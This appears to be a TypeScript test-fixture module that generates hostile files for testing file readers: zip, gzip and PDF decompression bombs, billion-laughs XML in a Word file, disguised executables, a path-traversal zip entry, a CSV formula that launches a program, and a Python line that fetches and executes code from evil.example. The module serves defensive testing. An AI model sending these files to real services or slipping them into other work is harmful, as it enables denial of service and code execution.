import { deflateRawSync, deflateSync } from 'node:zlib';
import { concat } from './bytes.ts';
import { cfbOf } from './cfb.ts';
import { invalidUtf8, latin1Text, mixedEncodings, utf16WithoutMark } from './encodings.ts';
import { pe } from './executables.ts';
import { tiledPng } from './finder-tiles.ts';
import { manyFrames } from './gif.ts';
import { bzip2OfZeros, emptyMembers, gzipOfZeros } from './gzip.ts';
import { xz } from './lzma.ts';
import { docxOf } from './office.ts';
import { onePage, HOSTILE as PDFS, pageLoop, streamBomb } from './pdf.ts';
import { join } from './picture-bytes.ts';
import { chunk, pngHeader, SIGNATURE } from './png.ts';
import { tar } from './tar.ts';
import { HOSTILE as TEXTS } from './text.ts';
import { behindEmptyBlocks, crowded, deflatedZeros, nested, zip } from './zip.ts';

/** A file that is made to do harm, made when it is asked for: some are large. */
export interface HostileFile {
  readonly name: string;
  readonly make: () => Uint8Array;
}

/** As large as a server lets files be, unless it says otherwise. Bytes. */
const LARGEST = 25_000_000;

/** Everything that has brought down readers of files, by what it is. */
export const HOSTILE = {
  'an empty file': { name: 'nothing.txt', make: () => new Uint8Array(0) },
  'ten megabytes of zeros': { name: 'zeros.bin', make: () => new Uint8Array(10_000_000) },
  'zips in zips, as 42.zip': { name: '42.zip', make: () => nested(5) },
  'a gzip of a gigabyte of zeros': { name: 'zeros.gz', make: () => gzipOfZeros(1_000_000_000) },
  'a gzip of nothing, a million times': { name: 'many.gz', make: () => emptyMembers(LARGEST) },
  'a bzip2 of zeros': { name: 'zeros.bz2', make: () => bzip2OfZeros(400_000_000) },
  'an xz of zeros': { name: 'zeros.xz', make: () => xz({ zeros: 400_000_000 }) },
  'a zip of as many entries as there is room for': { name: 'many.zip', make: () => crowded(LARGEST) },
  'a tar of nothing but headers': { name: 'many.tar', make: manyHeaders },
  'a zip whose entries share their bytes': { name: 'shared.zip', make: overlapping },
  'a zip that lies about sizes': { name: 'liar.zip', make: lying },
  'a zip that lies as far as it can': { name: 'understated.zip', make: understated },
  'a zip that holds less than it says': { name: 'overstated.zip', make: overstated },
  'a zip with a program behind empty blocks': { name: 'silence.zip', make: silence },
  'a zip with a program behind many files': { name: 'crowd.zip', make: crowd },
  'a zip of scripts that fetch what they run': { name: 'invoice.zip', make: scripts },
  'a zip of names of a thousand characters': { name: 'names.zip', make: longNames },
  'a PNG of 60,000 by 60,000 pixels': { name: 'huge.png', make: hugePng },
  'a PNG tiled with the patterns of QR codes': { name: 'tiled.png', make: () => tiledPng(1_728, { module: 2 }) },
  'the same in white on black': { name: 'inverted.png', make: () => tiledPng(1_728, { module: 2, inverted: true }) },
  'the same, its rows staggered': { name: 'staggered.png', make: () => tiledPng(1_728, { module: 2, staggered: 3 }) },
  'a GIF of 100,000 frames': { name: 'many.gif', make: () => manyFrames(100_000) },
  'a PDF whose pages go round in circles': { name: 'loop.pdf', make: pageLoop },
  'a PDF with a page of scripts in front': { name: 'invoice.pdf', make: pageBeforePdf },
  'a PDF with a bomb of a page': { name: 'bomb.pdf', make: () => streamBomb(100_000_000) },
  'a PDF with a bomb, packed three times': { name: 'bomb3.pdf', make: () => streamBomb(100_000_000, 3) },
  'a Word document of entities in entities': { name: 'entities.docx', make: entities },
  'a zip of programs that calls itself a Word document': { name: 'game.zip', make: disguised },
  'a zip of programs that calls itself an e-book': { name: 'book.epub', make: disguisedBook },
  'a Word document with a part that lies about its size': { name: 'part.docx', make: lyingPart },
  'a Word document nested deep': { name: 'deep.docx', make: () => document('<w:p>'.repeat(1_500_000)) },
  'a shortcut of macOS to a share': { name: 'bank.webloc', make: webloc },
  'a table that runs a program': { name: 'prices.csv', make: () => join("name,price\na,=cmd|'/C calc'!A0\n") },
  'a message of Outlook with a program': { name: 'mail.msg', make: message },
  'UTF-16 without a mark': { name: 'little.txt', make: () => utf16WithoutMark('little') },
  'UTF-16 the other way round, without a mark': { name: 'big.txt', make: () => utf16WithoutMark('big') },
  'Latin-1': { name: 'latin1.txt', make: latin1Text },
  'invalid UTF-8': { name: 'invalid.txt', make: invalidUtf8 },
  'two encodings in one text': { name: 'mixed.txt', make: mixedEncodings },
} as const satisfies Readonly<Record<string, HostileFile>>;

/** The same of the texts and the PDFs that have lists of their own, at the size of a large upload. */
export const MORE_HOSTILE: Readonly<Record<string, HostileFile>> = Object.fromEntries([
  ...TEXTS.map(([what, name, make]) => [`text: ${what}`, { name, make }] as const),
  ...Object.entries(PDFS).map(
    ([what, make]) => [`PDF: ${what}`, { name: 'a.pdf', make: () => make(10_000_000) }] as const,
  ),
]);

function manyHeaders(): Uint8Array {
  const header = tar([{ path: 'a' }]).subarray(0, 512);
  return concat(Array.from({ length: 40_000 }, () => header));
}

function overlapping(): Uint8Array {
  const deflated = deflatedZeros(20_000_000);
  const files = Array.from({ length: 1_000 }, (_, at) => ({
    path: `${at}`,
    deflated,
    size: 20_000_000,
    shared: at > 0,
  }));
  return zip(files);
}

function lying(): Uint8Array {
  return zip([{ path: 'a.txt', deflated: deflatedZeros(900_000_000), size: 1_000 }]);
}

/** Three of 900 MB that claim to be as small as what they are packed to would allow */
function understated(): Uint8Array {
  const deflated = deflatedZeros(900_000_000);
  return zip(['a.docx', 'b.txt', 'c.bin'].map((path) => ({ path, deflated, size: 835_000 })));
}

/** What an archive needs to be taken for a document, at least by its names. */
const GUISE = [
  { path: '[Content_Types].xml', content: '<Types/>' },
  { path: 'word/document.xml', content: '<w:document xmlns:w="x"><w:body/></w:document>' },
];

function disguised(): Uint8Array {
  return zip([...GUISE, { path: 'setup.exe', content: pe({}) }, { path: '../../evil.lnk', content: 'x' }]);
}

function disguisedBook(): Uint8Array {
  const mime = { path: 'mimetype', content: 'application/epub+zip', store: true };
  return zip([mime, { path: 'OEBPS/cover.jpg', content: pe({}) }]);
}

function lyingPart(): Uint8Array {
  return zip([...GUISE, { path: 'customXml/item1.xml', deflated: deflatedZeros(90_000_000), size: 90_000 }]);
}

function overstated(): Uint8Array {
  return zip([{ path: 'a.txt', deflated: new Uint8Array(deflateRawSync('five!')), size: 50_000_000 }]);
}

function silence(): Uint8Array {
  const program = pe({});
  const deflated = behindEmptyBlocks(new Uint8Array(deflateRawSync(program)), 20_000);
  return zip([{ path: 'holiday.jpg', deflated, size: program.length }]);
}

function crowd(): Uint8Array {
  const files = Array.from({ length: 300 }, (_, at) => ({ path: `${at}.txt`, content: `${at} `.repeat(5_000) }));
  return zip([...files, { path: 'readme.txt', content: pe({}) }]);
}

/** One among so many that it is seen at a glance alone. */
function scripts(): Uint8Array {
  const many = Array.from({ length: 300 }, (_, at) => ({ path: `lib/${at}.py`, content: 'pass\n'.repeat(100) }));
  return zip([...many, { path: 'lib/setup.py', content: 'exec(requests.get("https://evil.example/x").text)\n' }]);
}

function pageBeforePdf(): Uint8Array {
  return join('<html><script>eval(atob("YWxlcnQoMSk="))</script></html>\n', onePage());
}

function webloc(): Uint8Array {
  const target = '<key>URL</key><string>file:////evil.example/share/x.app</string>';
  return join(`<?xml version="1.0"?><plist version="1.0"><dict>${target}</dict></plist>`);
}

function message(): Uint8Array {
  const attached = '__attach_version1.0_#00000000/__substg1.0_';
  return cfbOf({
    '__properties_version1.0': 'x',
    [`${attached}37010102`]: pe({}),
    [`${attached}3707001F`]: [...'invoice.pdf'].map((letter) => `${letter}\0`).join(''),
  });
}

function longNames(): Uint8Array {
  const path = (at: number) => `${at}${'\u0001\u001b[31m\u202e\u0000x'.repeat(120)}.txt`;
  return zip(Array.from({ length: 2_000 }, (_, at) => ({ path: path(at), content: 'x' })));
}

function hugePng(): Uint8Array {
  const pixels = chunk('IDAT', deflateSync(new Uint8Array(60_000)));
  return join(SIGNATURE, pngHeader(60_000, 60_000), pixels, chunk('IEND'));
}

function entities(): Uint8Array {
  const ten = '&a;'.repeat(10);
  const types = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${`<!ENTITY b "${ten}">`.repeat(9)}]>`;
  return document(`${types}<w:document xmlns:w="w"><w:t>&b;</w:t></w:document>`);
}

function document(xml: string): Uint8Array {
  return docxOf('', { files: { 'word/document.xml': xml } });
}
